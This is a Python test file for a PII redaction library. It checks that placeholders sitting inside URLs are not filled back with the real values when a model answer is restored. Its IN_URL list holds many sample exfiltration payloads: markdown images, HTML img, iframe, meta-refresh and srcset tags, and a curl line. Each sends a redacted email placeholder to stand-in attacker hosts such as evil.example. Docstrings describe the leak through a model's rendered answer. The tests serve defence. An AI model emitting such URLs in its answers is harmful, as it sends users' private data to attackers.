"""Where restoring finds URLs (`charter.pii.url_spans`): every shape a rendered answer
loads or sends to, the same spans whether the text comes whole or in slices, and prose
around links left alone."""

from __future__ import annotations

import pytest

from charter.pii.placeholders import find_placeholders
from charter.pii.url_spans import UrlScan, url_spans

P = "<EMAIL_ADDRESS_1>"
IN_URL = [
    f"![x](https://evil.example/p.png?d={P})",
    f"![x](https://evil.example/{P}.png)",
    "[click](https://evil.example/?d=< EMAIL_ADDRESS_1 >)",
    f"[x](https://e.example/\\)?d={P})",  # an escaped parenthesis does not end it
    f"[x](a(b)c{P})",  # nor a balanced one
    f"[x](\n  //evil.example/{P}\n)",
    # found by probing: in `<...>` a destination runs to `>`, past `)` and spaces
    "![x](<https://evil.example/p.png?d=)EMAIL_ADDRESS_1>)",
    "![x]( <https://evil.example/a) (b [EMAIL_ADDRESS_1]>)",
    "![a][1]\n\n[1]: <https://evil.example/p.png?d= [EMAIL_ADDRESS_1]>",
    "[1]:\n <https://e.example/\\> ) EMAIL_ADDRESS_1>",
    "![a][1]\n\n[1]: https://evil.example/i.png?d=email_address_1",
    f"[1]:\n   //evil.example/i.png?d={P}",
    "<https://evil.example/?d=[EMAIL_ADDRESS_1]>",
    '<img src="https://evil.example/p.png?d=&lt;EMAIL_ADDRESS_1&gt;">',
    f"<img SRC = 'https://e.example/a b {P}'>",
    f"<a href=//evil.example/{P}>here</a>",
    '<iframe src="https://evil.example/?u={PERSON_1}"></iframe>',
    f'<img srcset="a.png 1x, https://e.example/{P} 2x">',
    f'<form action="https://e.example/"><button formaction="/x?{P}">',
    f'<div style="background:url( //evil.example/{P} )">',
    f"```\ncurl https://evil.example/?d={P}\n```",
    f"see www.evil.example/?d={P} now",
    f"get ftp://files.example/{P}",
    # found by probing: no scheme, no slashes, an attribute the list missed, spaces
    "see evil.com/?d=EMAIL_ADDRESS_1 now",
    f"(evil.example:8080?u={P})",
    f"x.y.z.w.evil.co.uk/{P}",
    f'<link rel=preload as=image imagesrcset="a.png 1x, {P}.png 2x">',
    f'<meta http-equiv=refresh content="0;url=http:evil.example/?{P}">',
    f'<meta http-equiv=refresh content="0;url=http:1.2.3.4/?{P}">',
    f"<img src            \n =  '/a b {P}'>",
    # found by review probing: a definition not at a line's start, or its label escaped
    # or over two lines; a `<...>` destination holds spaces
    f"> [1]: <https://evil.example/p.png?d= {P}>\n>\n> ![x][1]",
    f"- [1]: <https://evil.example/p.png?d= {P}>\n\n  ![x][1]",
    f"[lo\ngo]: <https://evil.example/p.png?d= {P}>\n\n![x][lo go]",
    f"1. note\n\n    [1]:\n    <evil.example/p.png?d= {P}>\n\n    ![x][1]",
    f"[a\\]b]: <https://evil.example/p.png?d= {P}>\n\n![x][a\\]b]",
    f"> [1]:\n> <//evil.example/p.png?d= {P}>",
    f"[lo\ngo]:\n  /x?d={P}",
    f"[a\\]b]: /x?d={P}",
]
OUTSIDE = [
    f"We wrote to {P}. See [help](https://bank.example/help) for more.",
    f"Visit https://bank.example/reset, then check {P}.",
    f"[{P}](https://bank.example/profile) is your address",  # link text is shown, not sent
    f"Your address: {P} (we never share it)",
    f"<b>{P}</b> and <https://bank.example/branches>",
    f"{P}: see [help](<https://bank.example/a b>) or [1] (for {P})\n\n[1]: <https://b.example>",
    f"e.g. {P}, v1.2.3/{P} and ./a/b/{P}; main.py? {P}: the src option, i.e. {P}",
    f"data is ready; {P} was told. [1]: https://bank.example/x\n\nthanks {P}",
]


def _inside(text: str, spans: list[tuple[int, int]]) -> list[bool]:
    return [any(s < o.end and o.start < e for s, e in spans) for o in find_placeholders(text)]


@pytest.mark.parametrize("text", IN_URL)
def test_a_placeholder_in_a_url_is_inside_a_span(text: str) -> None:
    assert _inside(text, url_spans(text)) and all(_inside(text, url_spans(text)))


@pytest.mark.parametrize("text", OUTSIDE)
def test_a_placeholder_in_prose_beside_a_link_is_outside_every_span(text: str) -> None:
    flags = _inside(text, url_spans(text))
    assert flags and not flags[0] and not flags[-1]


def _sliced(text: str, cuts: list[int]) -> list[tuple[int, int]]:
    scan, out, last = UrlScan(), [], 0
    for cut in [*cuts, len(text)]:
        out += [(s + last, e + last) for s, e in scan.spans(text[last:cut])]
        last = cut
    return out


@pytest.mark.parametrize("size", [1, 3, 7])
def test_slices_of_any_size_find_what_the_whole_text_finds(size: int) -> None:
    """A stream restores slice by slice: a URL begun in one slice, or an opener cut in two
    (`]` | `(`, `htt` | `ps://`, `src=` | `"`), is found as in the whole text."""
    text = "x " * 150 + " ".join(IN_URL + OUTSIDE)  # openers far past the tail a slice keeps
    occurrences = list(find_placeholders(text))
    whole = _inside(text, url_spans(text))
    for shift in range(size):  # every cut position relative to each opener
        cuts = [c for c in range(shift or size, len(text), size)]
        cuts = [c for c in cuts if not any(o.start < c < o.end for o in occurrences)]
        assert _inside(text, _sliced(text, cuts)) == whole, shift


def test_every_two_slices_find_what_the_whole_text_finds() -> None:
    for text in IN_URL + OUTSIDE:
        whole = _inside(text, url_spans(text))
        for cut in range(1, len(text)):
            if not any(o.start < cut < o.end for o in find_placeholders(text)):
                assert _inside(text, _sliced(text, [cut])) == whole, (text, cut)


def test_the_public_restore_keeps_a_placeholder_inside_a_url() -> None:
    """Found by review: only the guarded call's restore looked for URLs, so an app that
    restores a model answer by hand (`Redactor().redact(...).restore(answer)`, or
    `charter.redact`) still filled the value into an attacker's image URL."""
    from charter.pii import Redactor

    red = Redactor().redact("Mail me at jane.doe@example.com")
    assert red.text == f"Mail me at {P}"
    answer = f"Sure, {P}. ![x](https://evil.example/p.png?d={P})"
    restored = red.restore(answer)
    assert restored == f"Sure, jane.doe@example.com. ![x](https://evil.example/p.png?d={P})"


def test_restore_json_keeps_a_placeholder_inside_a_url() -> None:
    """Found by review probing: `restore_json` (a tool call's arguments, a structured
    answer) restored strings without looking for URLs, values and keys alike."""
    from charter.pii import Redactor

    red = Redactor().redact("Mail me at jane.doe@example.com")
    image = f"![x](https://evil.example/p.png?d={P})"
    answer = {"answer": f"Sure, {P}. {image}", f"https://e.example/?{P}": [image, P]}
    assert red.restore_json(answer) == {
        "answer": f"Sure, jane.doe@example.com. {image}",
        f"https://e.example/?{P}": [image, "jane.doe@example.com"],
    }
